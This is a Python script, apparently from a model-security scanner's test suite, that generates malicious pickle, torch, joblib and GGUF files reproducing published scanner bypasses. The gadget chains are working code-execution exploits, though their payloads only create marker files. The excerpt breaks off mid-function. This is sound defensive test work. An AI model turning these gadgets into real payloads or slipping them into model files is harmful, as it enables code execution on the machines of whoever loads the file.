#!/usr/bin/env python3
"""Builds the adversarial corpus in test/fixtures/adversarial, deterministically, with the
Python standard library only (it runs on the host's python3 or in a test image).

Every file is a malicious model modelled on a published scanner bypass. Its payload is harmless
but observable: it creates the marker file /out/<id> (ONNX files instead make the loader read a
secret file outside the model folder into a tensor, which load.py writes to /out/<id>).
test/artifacts/adversarial-corpus.test.ts runs each file through the real loader named in
corpus.json inside a test image with --network none, asserts the marker, and asserts that
`modelgate scan` fails the file.

    python3 scripts/adversarial/make.py            # rewrites test/fixtures/adversarial
"""

import bz2
import gzip
import io
import json
import lzma
import os
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib

ROOT = os.path.normpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', '..'))
OUT = os.path.join(ROOT, 'test', 'fixtures', 'adversarial')
FILES = os.path.join(OUT, 'files')

# The secret the ONNX files read: the test mounts a random 32-byte file here.
SECRET = '/secret/secret.bin'
SECRET_LEN = 32


# ---------------------------------------------------------------------------------------------
# A tiny pickle assembler: expressions are serialized to opcodes the way pickle.load runs them.


class G:
    """A global (module, qualified name), emitted as GLOBAL (or STACK_GLOBAL when stack=True)."""

    def __init__(self, module, name, stack=False):
        self.module, self.name, self.stack = module, name, stack


class Call:
    """f(*args), emitted as f, args tuple, REDUCE."""

    def __init__(self, f, *args):
        self.f, self.args = f, args


class Build:
    """obj with BUILD state (calls __setstate__ or updates __dict__)."""

    def __init__(self, obj, state):
        self.obj, self.state = obj, state


class Raw:
    def __init__(self, data):
        self.data = data


def ser(x):
    if isinstance(x, Raw):
        return x.data
    if isinstance(x, G):
        if x.stack:
            return ser(x.module) + ser(x.name) + b'\x93'
        return b'c' + x.module.encode() + b'\n' + x.name.encode() + b'\n'
    if isinstance(x, Call):
        return ser(x.f) + ser(tuple(x.args)) + b'R'
    if isinstance(x, Build):
        return ser(x.obj) + ser(x.state) + b'b'
    if x is None:
        return b'N'
    if x is True:
        return b'\x88'
    if x is False:
        return b'\x89'
    if isinstance(x, int):
        if 0 <= x < 256:
            return b'K' + bytes([x])
        if -(2**31) <= x < 2**31:
            return b'J' + struct.pack('<i', x)
        n = (x.bit_length() + 8) // 8
        return b'\x8a' + bytes([n]) + x.to_bytes(n, 'little', signed=True)
    if isinstance(x, float):
        return b'G' + struct.pack('>d', x)
    if isinstance(x, str):
        b = x.encode('utf-8')
        if len(b) < 256:
            return b'\x8c' + bytes([len(b)]) + b
        return b'X' + struct.pack('<I', len(b)) + b
    if isinstance(x, (bytes, bytearray)):
        if len(x) < 256:
            return b'C' + bytes([len(x)]) + bytes(x)
        return b'B' + struct.pack('<I', len(x)) + bytes(x)
    if isinstance(x, tuple):
        if not x:
            return b')'
        return b'(' + b''.join(ser(i) for i in x) + b't'
    if isinstance(x, list):
        if not x:
            return b']'
        return b']' + b'(' + b''.join(ser(i) for i in x) + b'e'
    if isinstance(x, dict):
        if not x:
            return b'}'
        return b'}' + b'(' + b''.join(ser(k) + ser(v) for k, v in x.items()) + b'u'
    raise TypeError(type(x))


def pkl(expr, proto=4):
    head = b'\x80' + bytes([proto]) if proto >= 2 else b''
    return head + ser(expr) + b'.'


def p0_system(cmd):
    """A protocol 0 posix.system call, printable ASCII only, ending with STOP."""
    return b'cposix\nsystem\n(V' + cmd.encode() + b'\ntR.'


def touch(i):
    return 'touch /out/' + i


def pyw(i):
    """Python source that creates the marker."""
    return "open('/out/%s','w').close()" % i


SYSTEM = G('os', 'system')


def ns(**attrs):
    """A types.SimpleNamespace carrying the given attributes (REDUCE, then BUILD)."""
    return Build(Call(G('types', 'SimpleNamespace')), attrs)


def partial(f, *args):
    return Call(G('functools', 'partial'), f, *args)


# ---------------------------------------------------------------------------------------------
# Containers: joblib, npy, npz, torch zip / legacy / tar, GGUF, ONNX.


def np_dtype(descr):
    """numpy.dtype(descr) as numpy pickles it (u1 etc.)."""
    return Build(Call(G('numpy', 'dtype'), descr, False, True), (3, '|', None, None, None, -1, -1, 0))


def joblib_wrapper(n):
    """The pickle joblib writes before the raw bytes of a uint8 array of n elements."""
    state = {
        'subclass': G('numpy', 'ndarray'),
        'shape': (n,),
        'order': 'C',
        'dtype': np_dtype('u1'),
        'allow_mmap': False,
        'numpy_array_alignment_bytes': 16,
    }
    return b'\x80\x04' + ser(Build(Raw(ser(G('joblib.numpy_pickle', 'NumpyArrayWrapper')) + b')\x81'), state))


def joblib_file(padding, array):
    """A joblib file: wrapper pickle, padding-length byte and padding, array bytes, STOP."""
    return joblib_wrapper(len(array)) + bytes([len(padding)]) + padding + array + b'.'


def npy(descr, shape, body, version=(1, 0), header=None):
    if header is None:
        header = "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    hlen_size = 2 if version == (1, 0) else 4
    pre = 6 + 2 + hlen_size
    total = pre + len(header) + 1
    header += ' ' * ((64 - total % 64) % 64) + '\n'
    enc = header.encode('utf-8' if version == (3, 0) else 'latin1')
    size = struct.pack('<H' if hlen_size == 2 else '<I', len(enc))
    return b'\x93NUMPY' + bytes(version) + size + enc + body


FIXED = (1980, 1, 1, 0, 0, 0)


def zip_bytes(members, compression=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', compression) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, FIXED)
            zi.compress_type = compression
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


def torch_zip(data_pkl, name='archive', compression=zipfile.ZIP_STORED, extra=()):
    return zip_bytes(
        [
            (name + '/data.pkl', data_pkl),
            (name + '/byteorder', b'little'),
            *extra,
            (name + '/version', b'3\n'),
            (name + '/.data/serialization_id', b'1234567890123456789012345678901234567890'),
        ],
        compression,
    )


TORCH_MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy(parts):
    """The legacy torch.save format: magic, protocol, sys_info, object, storage keys pickles."""
    return b''.join(parts)


def legacy_parts():
    return [
        pkl(TORCH_MAGIC, 2),
        pkl(1001, 2),
        pkl({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, 2),
        pkl({'w': 1}, 2),
        pkl([], 2),
    ]


def tar_bytes(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            ti.mode = 0o644
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def gguf_str(s):
    b = s.encode('utf-8') if isinstance(s, str) else s
    return struct.pack('<Q', len(b)) + b


def gguf(kvs, tensors=(), tensor_count=None, head=b'GGUF\x03\x00\x00\x00'):
    """A GGUF v3 file; kvs are (key, value) with str or int values; tensors are names of
    zero-element F32 tensors."""
    out = bytearray(head)
    out += struct.pack('<QQ', len(tensors) if tensor_count is None else tensor_count, len(kvs))
    for k, v in kvs:
        out += gguf_str(k)
        if isinstance(v, int):
            out += struct.pack('<IQ', 10, v)  # UINT64
        else:
            out += struct.pack('<I', 8) + gguf_str(v)
    for name in tensors:
        out += gguf_str(name) + struct.pack('<IQIQ', 1, 0, 0, 0)
    out += b'\x00' * ((32 - len(out) % 32) % 32)
    return bytes(out)


def chat_gguf(template):
    return gguf(
        [
            ('general.architecture', 'llama'),
            ('general.name', 'tiny-chat'),
            ('tokenizer.ggml.model', 'llama'),
            ('tokenizer.chat_template', template),
        ]
    )


# protobuf, for ONNX
def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pf(num, v):
    """One protobuf field: int -> varint, str/bytes -> length-delimited, list -> repeated."""
    if isinstance(v, list):
        return b''.join(pf(num, i) for i in v)
    if isinstance(v, int):
        return varint(num << 3) + varint(v)
    if isinstance(v, str):
        v = v.encode()
    return varint(num << 3 | 2) + varint(len(v)) + v


def pmsg(*fields):
    return b''.join(pf(n, v) for n, v in fields if v is not None)


UINT8, INT64 = 2, 7


def ext_tensor(name, location, dims=(SECRET_LEN,), dtype=UINT8):
    return pmsg(
        (1, list(dims)),
        (2, dtype),
        (8, name),
        (13, [pmsg((1, 'location'), (2, location)), pmsg((1, 'length'), (2, str(SECRET_LEN)))]),
        (14, 1),
    )


def value_info(name, dims=(SECRET_LEN,), dtype=UINT8):
    shape = pmsg((1, [pmsg((1, d)) for d in dims]))
    return pmsg((1, name), (2, pmsg((1, pmsg((1, dtype), (2, shape))))))


def node(op, inputs, outputs, attrs=(), domain=None, name=None):
    return pmsg((1, list(inputs)), (2, list(outputs)), (3, name or op + '_' + outputs[0]), (4, op), (7, domain), (5, list(attrs)))


def attr_tensor(name, t):
    return pmsg((1, name), (20, 4), (5, t))


def attr_graph(name, g):
    return pmsg((1, name), (20, 5), (6, g))


def graph(nodes, outputs, inputs=(), inits=(), sparse=(), name='g'):
    return pmsg((1, list(nodes)), (2, name), (5, list(inits)), (11, list(inputs)), (12, list(outputs)), (15, list(sparse)))


def model(g, opsets=(('', 13),), functions=()):
    return pmsg(
        (1, 8),
        (2, 'modelgate-adversarial'),
        (7, g),
        (8, [pmsg((1, d), (2, v)) for d, v in opsets]),
        (25, list(functions)),
    )


# ---------------------------------------------------------------------------------------------
# The corpus.

ENTRIES = []


def add(i, category, loader, image, payload, source, data, ext='pkl', files=None):
    """Registers one corpus file. data is the file's bytes (or None when files writes a folder)."""
    ENTRIES.append(
        dict(
            id=i,
            file='files/%s.%s' % (i, ext) if data is not None else files,
            category=category,
            loader=loader,
            image=image,
            payload=payload,
            source=source,
            data=data,
        )
    )


PS = 'picklescan/modelscan 2025 advisories (GHSA-655q-fx9r-782v and later unsafe-globals bypasses)'
JF = "JFrog, 'Unveiling 3 zero-day vulnerabilities in PickleScan' (CVE-2025-10155/10156/10157)"
SN = "Sonatype picklescan bypass reports (CVE-2025-1716 'pip', CVE-2025-1889 extensions, CVE-2025-1944/1945 zip)"
FK = 'fickling UNSAFE_IMPORTS / known-unsafe callables'
NF = "ReversingLabs, 'nullifAI' broken pickles (2025)"
TW = 'torch.load weights_only escapes (CVE-2025-32434) and torch internals that call their arguments'
SSTI = 'CVE-2024-34359 llama-cpp-python Jinja2ChatFormatter SSTI (GHSA-56xg-wfcc-g829)'
ONNX = 'onnx external data path traversal (CVE-2024-27318, CVE-2024-5187, GHSA-h4gv-3rvr-p95q symlink)'


def cat1():
    c = 'unlisted-code-globals'
    i = 'c1-cprofile-run'
    add(i, c, 'pickle', 'bookworm', 'cProfile.run(source) execs it', PS, pkl(Call(G('cProfile', 'run'), pyw(i))))
    i = 'c1-profile-runctx'
    add(i, c, 'pickle', 'bookworm', 'profile.runctx(source, {}, {}) execs it', PS,
        pkl(Call(G('profile', 'runctx'), "__import__('os').system('%s')" % touch(i), {}, {})))
    i = 'c1-timeit-setup'
    add(i, c, 'pickle', 'bookworm', 'timeit.timeit("pass", setup) execs setup', PS,
        pkl(Call(G('timeit', 'timeit'), 'pass', "import os; os.system('%s')" % touch(i), G('time', 'perf_counter'), 1)))
    i = 'c1-timeit-timer-stack'
    add(i, c, 'pickle', 'trixie', 'timeit.Timer(stmt).timeit(1) via a protocol-4 dotted STACK_GLOBAL', PS,
        pkl(Call(G('timeit', 'Timer.timeit', stack=True), Call(G('timeit', 'Timer', stack=True), pyw(i)), 1)))
    i = 'c1-pydoc-pipepager'
    add(i, c, 'pickle', 'bookworm', 'pydoc.pipepager(text, cmd) runs cmd in a shell', PS,
        pkl(Call(G('pydoc', 'pipepager'), 'x', touch(i))))
    i = 'c1-pty-spawn'
    add(i, c, 'pickle', 'bookworm', 'pty.spawn(argv) forks and execs argv', PS,
        pkl(Call(G('pty', 'spawn'), ['/bin/sh', '-c', touch(i)])))
    i = 'c1-bdb-run'
    add(i, c, 'pickle', 'bookworm', 'bdb.Bdb.run(Bdb(), source) execs it', FK,
        pkl(Call(G('bdb', 'Bdb.run'), Call(G('bdb', 'Bdb')), pyw(i))))
    i = 'c1-trace-runctx'
    add(i, c, 'pickle', 'trixie', 'trace.Trace.runctx(Trace(0,0), source, {}, {}) execs it', FK,
        pkl(Call(G('trace', 'Trace.runctx'), Call(G('trace', 'Trace'), 0, 0), pyw(i), {}, {})))
    i = 'c1-runpy-run-code'
    add(i, c, 'pickle', 'bookworm', 'runpy._run_code(source, {}) execs it', PS,
        pkl(Call(G('runpy', '_run_code'), pyw(i), {})))
    i = 'c1-code-interpreter'
    add(i, c, 'pickle', 'trixie', 'code.InteractiveInterpreter.runsource(instance, source)', PS,
        pkl(Call(G('code', 'InteractiveInterpreter.runsource'), Call(G('code', 'InteractiveInterpreter')), pyw(i))))
    i = 'c1-distutils-spawn'
    add(i, c, 'pickle', 'bookworm', 'distutils.spawn.spawn(argv) runs a process', PS,
        pkl(Call(G('distutils.spawn', 'spawn'), ['touch', '/out/' + i])))
    i = 'c1-numpy-runstring'
    add(i, c, 'pickle', 'bookworm', 'numpy.testing._private.utils.runstring(source, {}) execs it', PS,
        pkl(Call(G('numpy.testing._private.utils', 'runstring'), pyw(i), {})))
    i = 'c1-asyncio-subprocess'
    add(i, c, 'pickle', 'bookworm', 'asyncio.run(asyncio.create_subprocess_shell(cmd))', PS,
        pkl(Call(G('asyncio', 'run'), Call(G('asyncio', 'create_subprocess_shell'), touch(i)))))
    i = 'c1-methodcaller'
    add(i, c, 'pickle', 'bookworm', "operator.methodcaller('system', cmd)(posixpath.os)", FK,
        pkl(Call(Call(G('operator', 'methodcaller'), 'system', touch(i)), G('posixpath', 'os'))))
    i = 'c1-attrgetter'
    add(i, c, 'pickle', 'bookworm', "operator.attrgetter('system')(tempfile._os)(cmd)", FK,
        pkl(Call(Call(Call(G('_operator', 'attrgetter'), 'system'), G('tempfile', '_os')), touch(i))))
    i = 'c1-functools-partial'
    add(i, c, 'pickle', 'bookworm', 'functools.partial(os.system, cmd)()', FK, pkl(Call(partial(SYSTEM, touch(i)))))
    i = 'c1-functools-reduce'
    add(i, c, 'pickle', 'bookworm', "functools.reduce(getattr, ['system'], posixpath.os)(cmd)", FK,
        pkl(Call(Call(G('_functools', 'reduce'), G('builtins', 'getattr'), ['system'], G('posixpath', 'os')), touch(i))))
    i = 'c1-getattr-builtins-exec'
    add(i, c, 'pickle', 'bookworm', "getattr(__import__('builtins'), 'exec')(source)", PS,
        pkl(Call(Call(G('builtins', 'getattr'), Call(G('builtins', '__import__'), 'builtins'), 'exec'), pyw(i))))
    i = 'c1-ctypes-pyrun'
    add(i, c, 'pickle', 'bookworm', 'ctypes.pythonapi.PyRun_SimpleString(source)', FK,
        pkl(Call(G('ctypes', 'pythonapi.PyRun_SimpleString'), pyw(i).encode())))
    i = 'c1-pickle-loads-nested'
    add(i, c, 'pickle', 'bookworm', 'pickle.loads(inner pickle calling os.system)', FK,
        pkl(Call(G('pickle', 'loads'), pkl(Call(SYSTEM, touch(i))))))
    i = 'c1-torch-load-nested'
    add(i, c, 'torch', 'trixie', 'torch.serialization.load(BytesIO(pickle), None, pickle) runs the inner pickle', TW,
        pkl(Call(G('torch.serialization', 'load'), Call(G('io', 'BytesIO'), pkl(Call(SYSTEM, touch(i)))), None,
                 G('torch.serialization', 'pickle'))), ext='pt')
    i = 'c1-torch-fx-exec'
    add(i, c, 'torch', 'trixie', 'torch.fx.graph_module._exec_with_source(source, {})', TW,
        pkl(Call(G('torch.fx.graph_module', '_exec_with_source'), pyw(i), {})), ext='pt')
    i = 'c1-torch-collect-env'
    add(i, c, 'pickle', 'trixie', 'torch.utils.collect_env.run(cmd) runs a shell command', 'google/saferpickle#18, modelscan#338',
        pkl(Call(G('torch.utils.collect_env', 'run'), touch(i))))
    i = 'c1-pandas-read-pickle'
    add(i, c, 'pickle', 'bookworm', 'pandas.io.pickle.read_pickle(BytesIO(inner pickle))', PS,
        pkl(Call(G('pandas.io.pickle', 'read_pickle'), Call(G('io', 'BytesIO'), pkl(Call(SYSTEM, touch(i)))))))
    i = 'c1-sklearn-funcwrapper'
    add(i, c, 'pickle', 'bookworm', 'sklearn.utils.parallel._FuncWrapper(os.system)(cmd)', PS,
        pkl(Call(Call(G('sklearn.utils.parallel', '_FuncWrapper'), SYSTEM), touch(i))))
    i = 'c1-multiprocessing-spawnv'
    add(i, c, 'pickle', 'bookworm', 'multiprocessing.util.spawnv_passfds(sh, argv, ())', 'google/saferpickle#18',
        pkl(Call(G('multiprocessing.util', 'spawnv_passfds'), b'/bin/sh', ['/bin/sh', '-c', touch(i)], ())))
    i = 'c1-inst-opcode'
    add(i, c, 'pickle', 'bookworm', 'protocol 0 INST opcode: MARK, args, INST posix system calls it without REDUCE', FK,
        b'(V' + touch(i).encode() + b'\niposix\nsystem\n.')
    i = 'c1-obj-opcode'
    add(i, c, 'pickle', 'bookworm', 'protocol 1 OBJ opcode: MARK, callable, args, OBJ calls it without REDUCE', FK,
        b'(cposix\nsystem\nV' + touch(i).encode() + b'\no.')
    i = 'c1-memo-overwrite'
    add(i, c, 'pickle', 'bookworm', 'memo slot 1 holds builtins.list, then is overwritten by posix.system; BINGET 1 is called', FK,
        b'\x80\x02cbuiltins\nlist\nq\x010cposix\nsystem\nq\x010h\x01V' + touch(i).encode() + b'\n\x85R.')
    i = 'c1-pandas-optional-import'
    add(i, c, 'pickle', 'bookworm', "pandas.compat._optional.import_optional_dependency('os') then methodcaller", PS,
        pkl(Call(Call(G('operator', 'methodcaller'), 'system', touch(i)),
                 Call(G('pandas.compat._optional', 'import_optional_dependency'), 'os'))))


def cat2():
    c = 'allowed-namespace-reexports'
    i = 'c2-sklearn-os-system'
    add(i, c, 'pickle', 'bookworm', "STACK_GLOBAL('sklearn', 'os.system') reaches os.system through sklearn", JF,
        pkl(Call(G('sklearn', 'os.system', stack=True), touch(i))))
    i = 'c2-enum-bltns-exec'
    add(i, c, 'pickle', 'bookworm', "GLOBAL enum bltns.exec is builtins.exec", JF, pkl(Call(G('enum', 'bltns.exec'), pyw(i))))
    i = 'c2-datetime-sys-modules'
    add(i, c, 'pickle', 'bookworm', "datetime.sys.modules.get('os'), then enum.bltns.getattr(os, 'system')", JF,
        pkl(Call(Call(G('enum', 'bltns.getattr'), Call(G('datetime', 'sys.modules.get'), 'os'), 'system'), touch(i))))
    i = 'c2-collections-namedtuple-builtins'
    add(i, c, 'pickle', 'trixie', "collections.namedtuple.__builtins__.get('exec')(source)", JF,
        pkl(Call(Call(G('collections', 'namedtuple.__builtins__.get'), 'exec'), pyw(i))))
    i = 'c2-collections-sys'
    add(i, c, 'pickle', 'bookworm', "collections._sys.modules.get('posix') then enum.bltns.getattr", JF,
        pkl(Call(Call(G('enum', 'bltns.getattr'), Call(G('collections', '_sys.modules.get'), 'posix'), 'system'), touch(i))))
    i = 'c2-re-compile-builtins'
    add(i, c, 'pickle', 'bookworm', "re._compile.__builtins__.get('eval')(source)", JF,
        pkl(Call(Call(G('re', '_compile.__builtins__.get'), 'eval'), "__import__('os').system('%s')" % touch(i))))
    i = 'c2-copyreg-newobj-builtins'
    add(i, c, 'pickle', 'trixie', "copyreg.__newobj__.__builtins__.get('exec')(source)", JF,
        pkl(Call(Call(G('copyreg', '__newobj__.__builtins__.get', stack=True), 'exec'), pyw(i))))
    i = 'c2-numpy-lib-utils-os'
    add(i, c, 'pickle', 'bookworm', 'numpy.lib.utils.os.system (numpy 1.24 re-export)', JF,
        pkl(Call(G('numpy.lib.utils', 'os.system'), touch(i))))
    i = 'c2-numpy-utils-impl-os'
    add(i, c, 'pickle', 'trixie', 'numpy.lib._utils_impl.os.system (numpy 2 re-export)', JF,
        pkl(Call(G('numpy.lib._utils_impl', 'os.system', stack=True), touch(i))))
    i = 'c2-mtrand-np-chain'
    add(i, c, 'pickle', 'bookworm', 'numpy.random.mtrand.np.lib.utils.os.system: a module chain from an allowed prefix', JF,
        pkl(Call(G('numpy.random.mtrand', 'np.lib.utils.os.system'), touch(i))))
    i = 'c2-sklearn-utils-np-chain'
    add(i, c, 'pickle', 'trixie', 'sklearn.utils.np.lib.format.os.system', JF,
        pkl(Call(G('sklearn.utils', 'np.lib.format.os.system', stack=True), touch(i))))
    i = 'c2-xgboost-sklearn-os'
    add(i, c, 'pickle', 'trixie', 'xgboost.sklearn.os.system', JF, pkl(Call(G('xgboost.sklearn', 'os.system'), touch(i))))
    i = 'c2-torch-serialization-os'
    add(i, c, 'torch', 'trixie', 'torch.serialization.os.system inside a plain torch.load pickle', TW,
        pkl(Call(G('torch.serialization', 'os.system'), touch(i))), ext='pt')
    i = 'c2-builtins-vars-self'
    add(i, c, 'pickle', 'bookworm', "builtins.vars.__self__.__dict__.get('exec'): only builtins globals (modelscan#338)",
        'protectai/modelscan#338 introspection chain', pkl(Call(Call(G('builtins', 'vars.__self__.__dict__.get'), 'exec'), pyw(i))))
    i = 'c2-scipy-sparse-sputils-sys'
    add(i, c, 'pickle', 'bookworm', "scipy.sparse._sputils.sys.modules.get('os') then enum.bltns.getattr", JF,
        pkl(Call(Call(G('enum', 'bltns.getattr'), Call(G('scipy.sparse._sputils', 'sys.modules.get'), 'os'), 'system'), touch(i))))


def cat3():
    c = 'argument-calling-helpers'
    i = 'c3-reconstructor-popen'
    add(i, c, 'pickle', 'bookworm', 'copyreg._reconstructor(Popen, Popen, argv) calls Popen.__init__(argv)', FK,
        pkl(Call(G('copyreg', '_reconstructor'), G('subprocess', 'Popen'), G('subprocess', 'Popen'), ['touch', '/out/' + i]), 2))
    i = 'c3-newobj-namespace'
    add(i, c, 'pickle', 'bookworm', 'copyreg.__newobj__(ns, cmd) calls ns.__new__ = pydoc.pipepager', FK,
        pkl(Call(G('copyreg', '__newobj__'), ns(__new__=G('pydoc', 'pipepager')), touch(i))))
    i = 'c3-newobj-ex-namespace'
    add(i, c, 'pickle', 'trixie', 'copyreg.__newobj_ex__(ns, (), {cmd}) calls pydoc.pipepager', FK,
        pkl(Call(G('copyreg', '__newobj_ex__'), ns(__new__=G('pydoc', 'pipepager')), (), {'cmd': touch(i)})))
    i = 'c3-generator-ctor'
    add(i, c, 'pickle', 'trixie', 'numpy 2 random._pickle.__generator_ctor(cmd, ctor) calls ctor(cmd)', JF,
        pkl(Call(G('numpy.random._pickle', '__generator_ctor'), touch(i), G('torch.utils.collect_env', 'run'))))
    i = 'c3-randomstate-ctor'
    add(i, c, 'pickle', 'trixie', 'numpy 2 random._pickle.__randomstate_ctor(cmd, ctor) calls ctor(cmd)', JF,
        pkl(Call(G('numpy.random._pickle', '__randomstate_ctor'), touch(i), SYSTEM)))
    i = 'c3-bit-generator-ctor-class'
    cls = Call(G('builtins', 'type'), 'X', (G('builtins', 'object'),), {'__init__': partial(SYSTEM, touch(i))})
    add(i, c, 'pickle', 'trixie', 'numpy 2 random._pickle.__bit_generator_ctor(cls) instantiates a class whose __init__ runs a command', JF,
        pkl(Call(G('numpy.random._pickle', '__bit_generator_ctor'), cls)))
    i = 'c3-ufunc-reconstruct'
    add(i, c, 'pickle', 'bookworm', "numpy.core._ufunc_reconstruct('os', 'system') imports by argument", JF,
        pkl(Call(Call(G('numpy.core', '_ufunc_reconstruct'), 'os', 'system'), touch(i)), 2))
    i = 'c3-ufunc-reconstruct-np2'
    add(i, c, 'pickle', 'trixie', "numpy 2's numpy.core._ufunc_reconstruct('posix', 'system') imports by argument", JF,
        pkl(Call(Call(G('numpy.core', '_ufunc_reconstruct', stack=True), 'posix', 'system'), touch(i))))
    i = 'c3-rebuild-from-type-v2'
    add(i, c, 'torch', 'trixie', 'torch._tensor._rebuild_from_type_v2(func, Tensor, args, {}) calls func(*args)', TW,
        pkl(Call(G('torch._tensor', '_rebuild_from_type_v2'), G('torch.serialization', 'os.system'), G('torch', 'Tensor'),
                 (touch(i),), {})), ext='pt')
    i = 'c3-rebuild-parameter'
    add(i, c, 'torch', 'trixie', 'torch._utils._rebuild_parameter(ns, ...) calls ns.detach()', TW,
        pkl(Call(G('torch._utils', '_rebuild_parameter'), ns(detach=partial(SYSTEM, touch(i))), False,
                 Call(G('collections', 'OrderedDict')))), ext='pt')
    i = 'c3-defaultdict-missing'
    add(i, c, 'pickle', 'bookworm', 'collections.defaultdict.__missing__(defaultdict(partial(exec, src)), k)', FK,
        pkl(Call(G('collections', 'defaultdict.__missing__'),
                 Call(G('collections', 'defaultdict'), partial(G('enum', 'bltns.exec'), pyw(i))), 'k')))
    i = 'c3-codecs-rot13-exec'
    import codecs
    add(i, c, 'pickle', 'bookworm', "exec(_codecs.encode(rot13 source, 'rot13')) hides the source", FK,
        pkl(Call(G('enum', 'bltns.exec'), Call(G('_codecs', 'encode'), codecs.encode(pyw(i), 'rot13'), 'rot13'))))
    i = 'c3-codecs-zlib-pickle'
    add(i, c, 'pickle', 'bookworm', "pickle.loads(_codecs.decode(zlib bytes, 'zlib_codec')) hides the inner pickle", FK,
        pkl(Call(G('_pickle', 'loads'), Call(G('_codecs', 'decode'), zlib.compress(pkl(Call(SYSTEM, touch(i))), 9), 'zlib_codec'))))
    i = 'c3-scipy-stats-setstate'
    add(i, c, 'pickle', 'bookworm', 'BUILD on scipy.stats norm_gen: __setstate__ execs _parse_arg_template', PS,
        pkl(Build(Call(G('copyreg', '_reconstructor'), G('scipy.stats._continuous_distns', 'norm_gen'), G('builtins', 'object'), None),
                  {'_parse_arg_template': pyw(i), 'shapes': None, 'name': 'norm'}), 2))
    i = 'c3-reconstructor-timeit'
    add(i, c, 'pickle', 'trixie', 'copyreg._reconstructor(ns, Timer, stmt) then Timer.timeit(1): __init__ by argument', FK,
        pkl(Call(G('timeit', 'Timer.timeit'), Call(G('copyreg', '_reconstructor'), G('timeit', 'Timer'), G('timeit', 'Timer'), pyw(i)), 1)))


def cat4():
    c = 'loader-disagreement'
    i = 'c4-joblib-array-bytes'
    add(i, c, 'pickle', 'bookworm', 'joblib skips the array bytes; pickle.load runs them as opcodes', 'issue 9 (joblib array bytes)',
        joblib_file(b'N' * 78, p0_system(touch(i)) + b'\x00' * 7), ext='joblib')
    i = 'c4-joblib-padding'
    add(i, c, 'pickle', 'bookworm', 'joblib skips the alignment padding; pickle.load runs it as opcodes', 'issue 9 (joblib padding)',
        joblib_file(b'0' + p0_system(touch(i)).ljust(92, b'N'), bytes(range(16))), ext='joblib')
    i = 'c4-joblib-array-torch'
    add(i, c, 'torch', 'trixie', 'the joblib array-bytes payload, read by torch.load (legacy reader)', 'issue 9 (joblib array bytes)',
        joblib_file(b'N' * 78, p0_system(touch(i)) + b'\x00' * 7), ext='joblib')
    i = 'c4-joblib-array-numpy'
    add(i, c, 'numpy', 'bookworm', 'the joblib array-bytes payload, read by numpy.load(allow_pickle=True)', 'issue 9 (joblib array bytes)',
        joblib_file(b'N' * 78, p0_system(touch(i)) + b'\x00' * 7), ext='joblib')
    i = 'c4-gguf-pickle-prefix'
    key = '\n0' + p0_system(touch(i)).decode()
    names = ['t%05d' % n for n in range(0x5600)]
    add(i, c, 'pickle', 'bookworm', "a valid GGUF whose header is BINFLOAT, UNICODE line: the first key is a pickle payload", 'issue 9 (GGUF header pickle prefix)',
        gguf([(key, 'x'), ('general.architecture', 'llama')], names, tensor_count=0x5600), ext='gguf')
    i = 'c4-torchzip-member-gguf'
    add(i, c, 'torch', 'trixie', 'torch zip whose data.pkl starts with the GGUF magic (sniffs as GGUF) and is a pickle', 'issue 9 (polyglots)',
        torch_zip(b'GGUF\x03\x00\x00\x00\x00V\n0' + p0_system(touch(i))), ext='pt')
    i = 'c4-unknown-unicode-text'
    add(i, c, 'pickle', 'bookworm', 'starts with a text line (UNICODE opcode), then a protocol 0 payload', 'CVE-2025-10155 (protocol 0/1 pickles without magic)',
        b'VModel card: tiny classifier, MIT licence, trained on iris. See README for details.\n0' + p0_system(touch(i)), ext='bin')
    i = 'c4-unknown-shortbinstring'
    add(i, c, 'pickle', 'bookworm', "starts 'U ' (SHORT_BINSTRING of 32 bytes of text), then the payload", 'CVE-2025-10155',
        b'U' + bytes([32]) + b'readme: weights for the demo mod' + b'0' + p0_system(touch(i)), ext='txt')
    i = 'c4-unknown-int-line'
    add(i, c, 'pickle', 'bookworm', "starts 'I20250101' like a number table, then the payload", 'CVE-2025-10155',
        b'I20250101\n0' + p0_system(touch(i)), ext='csv')
    i = 'c4-unknown-binunicode'
    add(i, c, 'pickle', 'bookworm', "starts 'X' + a 4-byte length of JSON-looking text (BINUNICODE), then the payload", 'CVE-2025-10155',
        b'X' + struct.pack('<I', 23) + b'{"format": "weights-v1"}'[:23] + b'0' + p0_system(touch(i)), ext='json')
    i = 'c4-nullifai-invalid-opcode'
    add(i, c, 'pickle', 'bookworm', 'payload first, then an invalid opcode: pickle.load raises after running it', NF,
        pkl(Call(SYSTEM, touch(i)), 2)[:-1] + b'0\xff\xfe\x00garbage', ext='pkl')
    i = 'c4-nullifai-truncated'
    add(i, c, 'pickle', 'bookworm', 'payload first, then a stream cut in the middle of an opcode', NF,
        pkl(Call(SYSTEM, touch(i)), 2)[:-1] + b'0\x8c\x20truncat', ext='pkl')
    i = 'c4-nullifai-torch-broken'
    inner = pkl(Call(SYSTEM, touch(i)), 2)[:-1] + b'0\xff'
    add(i, c, 'torch', 'trixie', 'torch zip whose data.pkl runs the payload, then breaks (nullifAI)', NF, torch_zip(inner), ext='pt')
    i = 'c4-multi-pickle-second'
    add(i, c, 'pickle-stream', 'bookworm', 'a benign pickle, then a second pickle with the payload (read in a loop)', 'issue 9 (multi-pickle streams)',
        pkl({'weights': [1, 2, 3]}) + pkl(Call(SYSTEM, touch(i))), ext='pkl')
    i = 'c4-torch-legacy-4th'
    p = legacy_parts()
    p[3] = pkl(Call(SYSTEM, touch(i)), 2)
